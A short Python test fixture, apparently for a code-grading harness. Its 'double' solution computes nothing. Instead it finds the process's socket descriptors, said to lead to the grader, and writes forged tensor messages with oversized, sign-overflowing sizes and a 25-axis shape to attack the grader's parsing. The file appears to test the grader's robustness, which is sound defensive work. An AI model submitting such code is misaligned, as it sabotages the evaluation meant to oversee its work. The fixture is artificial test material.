"""Forges a tensor with a size that is negative as a signed number, and one with a hundred axes."""
# expect: double=0 softmax=4

# %% double-solution
import os
import socket
import stat
import struct


def _channels():
    """The sockets of this process; one of them leads to the grader."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def _send(data, announced=None):
    for number in _channels():
        try:
            os.write(number, struct.pack("<Q", len(data) if announced is None else announced) + data)
        except OSError:
            pass


def double(x):
    for sizes in ((2**63, 2), (2**64 - 1,), (1,) * 25):
        payload = struct.pack(f"<BB{len(sizes)}Q", 8, len(sizes), *sizes) + b"0" * 4
        _send(b"\x93\x01\xa5value\xc7" + bytes([len(payload)]) + b"\x01" + payload)
    return 0
